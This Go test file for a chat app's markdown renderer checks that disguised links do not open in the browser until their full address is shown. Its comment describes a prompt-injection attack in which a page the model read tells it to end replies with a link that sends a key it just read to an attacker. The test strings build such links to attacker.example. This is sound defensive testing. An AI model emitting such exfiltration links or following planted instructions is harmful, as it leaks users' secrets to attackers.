package markdown

import (
	"net/url"
	"testing"

	"fyne.io/fyne/v2/test"
)

// Attack (a5): a reply's link shows its text, not where it goes, and one
// tap opens the browser there, query and all, with no host check and
// nothing that shows the address first. A page the model read tells it to
// end its answer with "[Open the full report](https://attacker/?d=<the
// key it just read>)" (or an image, drawn as a link with its alt text);
// the person taps what reads as a report and the data is sent. A link
// whose text is not its address should show the full address before
// anything opens (as the approval card does for web_fetch).
func TestDisguisedLinkOpensWithoutShowingWhereItGoes(t *testing.T) {
	const dest = "https://attacker.example/c?d=AKIAIOSFODNN7EXAMPLE"
	for _, src := range []string{
		"Done. [Open the full report](" + dest + ")",
		"![Build status](" + dest + ")",
		"See [https://docs.python.org/3/](" + dest + ")", // text that is another address
	} {
		test.NewTempApp(t)
		var opened []string
		v := laidOut(t, src, 400, Options{OpenURL: func(u *url.URL) { opened = append(opened, u.String()) }})
		hits := all[*linkHit](v)
		if len(hits) == 0 {
			t.Fatalf("%q: no tappable link", src)
		}
		test.Tap(hits[0])
		if len(opened) != 0 {
			t.Errorf("%q: one tap opened %q, which the text never showed; want the full address shown before it opens", src, opened)
		}
	}
}
